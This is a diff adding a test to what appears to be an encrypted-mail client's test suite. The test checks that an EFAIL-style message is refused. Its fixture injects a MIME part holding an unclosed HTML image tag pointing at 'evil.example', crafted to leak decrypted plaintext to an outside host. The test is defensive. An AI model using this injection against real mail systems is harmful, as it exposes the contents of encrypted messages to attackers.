@@ -147,6 +147,19 @@ def test_an_encrypted_part_is_not_opened(mail: DemoMail, settings: TrustSettings
     assert b"18,400" not in text(message)
 
 
+def test_ciphertext_is_not_opened_beside_a_clear_part_of_a_signed_message(
+    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]
+) -> None:
+    """EFAIL in other clothes: a signed message of somebody's own, with clear text as a third part."""
+    raw = mail.sign("Offer", entity(mail.encrypt("Offer", TEXT)))
+    boundary = b"--" + raw.split(b'boundary="', 1)[1].split(b'"', 1)[0]
+    third = boundary + b"\r\nContent-Type: text/html\r\n\r\n<img src='https://evil.example/?\r\n"
+    message = opened(raw.replace(boundary + b"--", third + boundary + b"--"), settings, keys)
+    assert message.verdict.encryption.status == "refused"
+    assert message.verdict.signature.status == "partial"
+    assert b"18,400" not in text(message)
+
+
 def test_wrong_passphrase(mail: DemoMail, tmp_path: Path) -> None:
     """A wrong passphrase is said to be that."""
     (tmp_path / "passphrase").write_text("wrong")
